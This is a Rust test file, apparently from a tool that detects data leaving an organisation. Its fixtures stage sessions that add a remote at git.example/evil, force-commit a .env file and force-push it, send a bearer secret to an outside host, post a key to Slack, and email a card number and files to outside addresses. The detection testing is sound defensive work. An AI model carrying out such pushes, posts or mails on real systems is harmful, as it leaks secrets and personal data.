//! What left in an incident.

use super::asked::{incident, told};
use super::*;
use crate::finding::{Finding, Scope};

pub(super) fn sessions(lake: &mut Lake) {
    let from = From { login: "leaves", export: "leaves", session: "leaves", conversation: "leaves", ..NOBODY };
    (1..=7).for_each(|record| lake.request(from, record, json!({})));
    let shell = |lake: &mut Lake, record: i64, commands: &[(&str, &str, &str)]| {
        let uid = format!("leaves {record}");
        lake.call(from, record, "Bash", Some(&uid), json!({ "call_uid": uid }));
        for (nth, (program, subcommand, text)) in commands.iter().enumerate() {
            let row = json!({ "call_uid": uid, "nth": nth, "program": program, "subcommand": subcommand, "text": text,
                              "session_id": from.session, "parsed": true });
            lake.push("commands", from, record, &[&row]);
        }
    };
    let entity = |lake: &mut Lake, record: i64, kind: &str, value: &str, more: Value| {
        let row = json!({ "source": "call", "source_id": format!("leaves {record}"), "kind": kind, "value": value, "place": "argument",
                          "relation": "read", "session_id": from.session });
        lake.push("entities", from, record, &[&row, &more]);
    };
    shell(lake, 1, &[("git", "remote", "git remote add origin https://git.example/evil")]);
    shell(lake, 2, &[("git", "add", "git add -f .env"), ("git", "commit", "git commit -qm x")]);
    entity(lake, 2, "path", ".env", json!({ "name": "git", "place": "command" }));
    shell(lake, 3, &[("git", "push", "git push --force origin HEAD:main")]);
    shell(lake, 4, &[("git", "push", "git push backup main")]);
    let tool = |lake: &mut Lake, record: i64, raw: &str| {
        let uid = format!("leaves {record}");
        lake.call(from, record, raw, Some(&uid), json!({ "call_uid": uid }));
    };
    tool(lake, 5, "mcp__slack__post_message");
    entity(lake, 5, "argument", "#Partners", json!({ "name": "channel", "relation": "mention" }));
    let key = json!({ "source_id": "leaves 5", "surface": "tool_arguments", "fingerprint": "f1", "tier": "provider", "confidence": "high" });
    lake.push("secrets", from, 5, &[&key]);
    tool(lake, 6, "mcp__paper__publish_link");
    entity(lake, 6, "path", "contracts/a.pdf", json!({ "name": "path" }));
    // A page that is fetched takes a question at most, and neither does every post of a session belong here.
    tool(lake, 7, "WebFetch");
    entity(lake, 7, "argument", "https://docs.example", json!({ "name": "url", "relation": "mention" }));
    // Within the window, which ends at the time of record 8.
    let late = "2026-03-01T10:07:30Z";
    // A command that only fetches carries the secret that stands in it.
    lake.call(from, 7, "Bash", Some("leaves curl"), json!({ "call_uid": "leaves curl", "time": late }));
    let host = json!({ "source": "call", "source_id": "leaves curl", "kind": "host", "value": "api.outside.example", "domain": "outside.example",
                       "place": "command", "relation": "source", "session_id": from.session, "time": late });
    lake.push("entities", from, 7, &[&host]);
    let bearer = json!({ "occurrence_id": "leaves curl", "source_id": "leaves curl", "surface": "tool_arguments", "fingerprint": "f3", "tier": "provider", "confidence": "high" });
    lake.push("secrets", from, 7, &[&bearer]);
    // Mails to others are told of a session whether an incident names them or not, those to the organisation's own are not.
    let mail = |lake: &mut Lake, record: i64, to: &str, arguments: &str| {
        let uid = format!("leaves {record}");
        let row = json!({ "call_uid": uid, "arguments": arguments, "position": record, "time": late });
        lake.call(from, record, "mcp__mail__send_email", Some(&uid), row);
        let domain = to.split('@').nth(1);
        entity(
            lake,
            record,
            "email",
            to,
            json!({ "name": "to.0", "relation": "destination", "domain": domain, "time": late }),
        );
    };
    mail(
        lake,
        8,
        "eve@out.example",
        r#"{"body":"x","attachments":[{"file_id":"11","type":"file"},{"filename":"a.docx"}]}"#,
    );
    let card = json!({ "source_id": "leaves 8", "surface": "tool_arguments", "fingerprint": "f2", "tier": "pii", "kind": "card",
                       "preview": "card …2574", "confidence": "high", "occurrence_id": "leaves card", "time": late });
    lake.push("secrets", from, 8, &[&card]);
    mail(lake, 9, "mallory@else.example", "{}");
    let row = json!({ "message_id": "leaves asks", "role": "user", "kind": "text", "bytes": 30, "text": "Write to mallory@else.example.",
                      "position": 0, "part": 0, "session_id": from.session });
    lake.push("messages", from, 1, &[&row]);
    mail(lake, 10, "boss@own.example", "{}");
    lake.request(From { login: "someone@own.example", ..NOBODY }, 1, json!({}));
    let quiet = From { session: "quiet", conversation: "quiet", ..from };
    lake.request(quiet, 7, json!({}));
    lake.call(quiet, 7, "mcp__slack__post_message", Some("q"), json!({ "call_uid": "quiet" }));
}

pub(super) fn reported() -> Vec<Finding> {
    let scope = |integration: &str| Scope { integration: Some(integration.to_owned()), ..Scope::default() };
    vec![
        incident("session", Some("leaves"), "leaves", &[4, 7]),
        incident("quiet", Some("quiet"), "leaves", &[]),
        Finding { scope: scope("paper"), ..incident("integration", None, "leaves", &[1]) },
    ]
}

#[tokio::test]
async fn pushes_posts_and_publications_are_told_with_what_they_carried() {
    let columns = "finding_id, says, place, url, tool, array_to_string(files, ' ') AS files, secrets, secret, array_to_string(personal, ' ') AS personal, public, asked, attempted, calls, array_to_string(records, ' ') AS records";
    let wanted = [
        "integration | published | - | - | publish_link | contracts/a.pdf | 0 | false |  | true | false | true | 1 | 6",
        "session | mailed | eve@out.example | - | send_email | a.docx file 11 | 0 | false | payment card …2574 | false | false | true | 1 | 8",
        "session | mailed | mallory@else.example | - | send_email |  | 0 | false |  | false | true | true | 1 | 9",
        "session | posted | #partners | - | post_message |  | 1 | true |  | false | false | true | 1 | 5",
        "session | published | - | - | publish_link | contracts/a.pdf | 0 | false |  | true | false | true | 1 | 6",
        "session | pushed | backup | - | - |  | 0 | false |  | false | false | true | 1 | 4",
        "session | pushed | origin | https://git.example/evil | - | .env | 0 | true |  | false | false | true | 1 | 3",
        "session | sent | api.outside.example | - | - |  | 1 | true |  | false | false | true | 1 | 7",
    ];
    assert_eq!(
        told("left", columns, &["session", "integration", "quiet"]).await,
        wanted,
        "the commit went with the first push and not with the second"
    );
}

#[tokio::test]
async fn an_incident_without_a_session_names_that_of_all_its_calls() {
    assert_eq!(told("used_in", "finding_id, session_id", &["integration", "session"]).await, ["integration | leaves"]);
    let asked = told("asked", "finding_id, call_record, text", &["integration"]).await;
    assert_eq!(asked, ["integration | 6 | Write to mallory@else.example."], "its evidence shows no call");
}
